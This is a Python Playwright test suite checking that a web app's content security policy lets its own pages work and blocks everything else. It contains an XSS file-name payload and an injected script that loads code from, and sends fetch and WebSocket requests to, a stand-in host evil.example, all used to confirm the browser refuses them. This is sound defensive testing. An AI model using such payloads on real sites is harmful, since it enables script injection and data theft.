"""The pages under their content security policy: all of ours works, nothing else does."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from own_files import shapes_zip
from PIL import Image
from playwright.sync_api import Page, Response, Route, expect

from devtools.controls import button, open_part, upload
from devtools.serving import Server
from devtools.waiting import TIMEOUT_MS
from playground.drawing import sample_digits
from playground.ui.server.security import page_policy
from playground.ui.server.short_links import PAGES

from .test_draw import SEVEN, draw, picture
from .test_draw import show as show_drawing
from .test_train import PLOT, wait_for_rows

pytestmark = pytest.mark.timeout(600)
PATIENCE_MS = 120_000
LISTEN = """
  document.addEventListener("securitypolicyviolation", event => spViolation(
    `${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile ?? ""}`));
"""
HTML = "<img src=x onerror=alert(1)><b>bold"

NewPage = Callable[..., Page]


@pytest.fixture
def violations() -> list[str]:
    """What the browser has refused so far, as `directive address file`."""
    return []


@pytest.fixture
def watched(new_page: NewPage, violations: list[str]) -> Iterator[Page]:
    """A page on which the browser refuses nothing, unless the test takes it out of the list."""
    page = new_page(accept_downloads=True)
    page.expose_function("spViolation", lambda said: violations.append(said))
    page.add_init_script(LISTEN)
    documents: list[Response] = []
    page.on("response", lambda each: documents.append(each) if is_page(each) else None)
    yield page
    assert documents
    assert {each.headers.get("content-security-policy") for each in documents} == {page_policy()}
    assert violations == []


def is_page(response: Response) -> bool:
    return response.request.resource_type == "document" and "127.0.0.1" in response.url


def wait_until_drawn(page: Page) -> None:
    """The script has ended, and no figure or component still waits for its module."""
    expect(page.locator("[data-testid=stApp]")).to_have_attribute(
        "data-test-script-state", "notRunning", timeout=PATIENCE_MS
    )
    expect(page.locator("[data-testid=stSkeleton]")).to_have_count(0, timeout=PATIENCE_MS)
    expect(page.locator("h1")).to_be_visible(timeout=PATIENCE_MS)
    page.wait_for_load_state("networkidle")


# ---------------------------------------------------------------- all of ours works


@pytest.mark.parametrize("path", PAGES)
def test_a_page_runs_under_its_policy(watched: Page, server: Server, path: str) -> None:
    watched.goto(f"{server.url}/{path}")
    wait_until_drawn(watched)
    if path == "draw":  # which also reads what it has kept
        watched.reload()
        wait_until_drawn(watched)


def test_a_run_is_watched_looked_into_and_taken_home(
    watched: Page, server: Server, own_run: Callable[..., str]
) -> None:
    # While one goes on, test_train.py has no error in the console, which a refusal would be.
    watched.goto(f"{server.url}/train?run={own_run(watched)}")
    wait_for_rows(watched, 0)
    watched.get_by_text(re.compile("^Finished · ")).wait_for(timeout=PATIENCE_MS)
    watched.locator(PLOT).first.hover()
    with watched.expect_download(timeout=PATIENCE_MS) as waiting:
        watched.locator(f"{PLOT} [data-title*=PNG]").first.click()
    with Image.open(waiting.value.path()) as png:
        assert png.width > 500
    for part in ("Look inside", "Compare", "Runs", "Take home"):
        open_part(watched, part)
        wait_until_drawn(watched)
    with watched.expect_download(timeout=PATIENCE_MS) as waiting:
        button(watched, "History (CSV)").click()
    assert Path(waiting.value.path()).read_text().startswith("step")


def test_a_stroke_a_picture_and_every_panel(watched: Page, server: Server) -> None:
    assert sample_digits()[20].label == 4
    show_drawing(watched, server)
    draw(watched, SEVEN)
    panels = watched.get_by_role("radiogroup", name="More of this drawing").get_by_role("radio")
    for panel in panels.all():
        if not panel.is_checked():
            address = watched.url
            panel.click()
            watched.wait_for_url(lambda url, before=address: url != before)  # type: ignore[misc]
        wait_until_drawn(watched)
    watched.get_by_text("A picture", exact=True).click()
    upload(watched, "A picture of digits", f"{HTML}.jpg", "image/jpeg", picture())
    expect(watched.get_by_text(re.compile(r"^The network of this app: 4, "))).to_be_visible(
        timeout=PATIENCE_MS
    )
    assert watched.locator("img[src=x]").count() == 0


# ---------------------------------------------------------------- nothing else does


INJECTED = """() => setTimeout(() => {  // later: what a test evaluates directly may do more
  const add = (tag, values) => document.body.append(
    Object.assign(document.createElement(tag), values));
  add("script", { textContent: "window.ran = 'script'" });
  add("script", { src: "https://evil.example/script.js" });
  add("script", { src: "data:text/javascript,window.ran='data'" });
  add("iframe", { src: "https://evil.example/frame" });
  add("img", { src: "https://evil.example/pixel.png" });
  add("object", { data: "https://evil.example/object" });
  add("base", { href: "https://evil.example/" });
  const holder = document.createElement("div");
  holder.innerHTML = `<button id="trap" onclick="window.ran = 'attribute'">x</button>`;
  document.body.append(holder);
  document.getElementById("trap").click();
  try { (0, eval)("window.ran = 'eval'"); } catch {}
  try { new Function("window.ran = 'function'")(); } catch {}
  fetch("https://evil.example/secret").catch(() => {});
  try { new WebSocket("wss://evil.example/secret"); } catch {}
})"""
REFUSED = {
    "script-src-elem inline",
    "script-src-elem https://evil.example/script.js",
    "script-src-elem data",
    "script-src-attr inline",
    "script-src eval",
    "frame-src https://evil.example",
    "img-src https://evil.example/pixel.png",
    "object-src https://evil.example",
    "base-uri https://evil.example/",
    "connect-src https://evil.example/secret",
    "connect-src wss://evil.example/secret",
}


def test_what_is_injected_neither_runs_nor_calls_home(
    watched: Page, server: Server, violations: list[str], page_problems: list[str]
) -> None:
    watched.goto(server.url)
    wait_until_drawn(watched)
    watched.evaluate(INJECTED)
    for _ in range(TIMEOUT_MS // 100):
        found = {" ".join(each.split(" ")[:2]) for each in violations}
        if found >= REFUSED:
            break
        watched.wait_for_timeout(100)
    assert found == REFUSED
    assert watched.evaluate("window.ran") is None
    violations.clear()
    page_problems.clear()


@pytest.mark.parametrize("origin", ["http://evil.example", "own"])
def test_only_our_own_site_may_show_the_app_in_a_frame(
    page: Page, server: Server, origin: str, page_problems: list[str]
) -> None:
    def embed(route: Route) -> None:
        route.fulfill(content_type="text/html", body=f"<iframe src='{server.url}/'></iframe>")

    outside = f"{server.url if origin == 'own' else origin}/embedding"
    page.route(outside, embed)
    page.goto(outside)
    title = page.frame_locator("iframe").get_by_text("Softmax Playground").first
    if origin == "own":
        expect(title).to_be_attached(timeout=PATIENCE_MS)
        return
    page.wait_for_load_state("networkidle")
    assert title.count() == 0
    assert [frame.url for frame in page.frames] == [outside, "chrome-error://chromewebdata/"]
    page_problems.clear()


def test_names_of_files_and_folders_are_text(watched: Page, server: Server) -> None:
    watched.goto(f"{server.url}/train?data=own&model=linear")
    expect(button(watched, "Start")).to_be_enabled(timeout=PATIENCE_MS)
    upload(watched, "Zip", f"{HTML}.zip", "application/zip", b"PK\x03\x04 no zip")
    expect(watched.get_by_text("is no zip")).to_contain_text("<b>", timeout=PATIENCE_MS)
    upload(watched, "Zip", f"{HTML}.zip", "application/zip", shapes_zip())
    expect(watched.get_by_text("48 images to learn from")).to_be_visible(timeout=PATIENCE_MS)
    assert watched.locator("img[src=x]").count() == 0
    assert watched.locator("b", has_text="bold").count() == 0
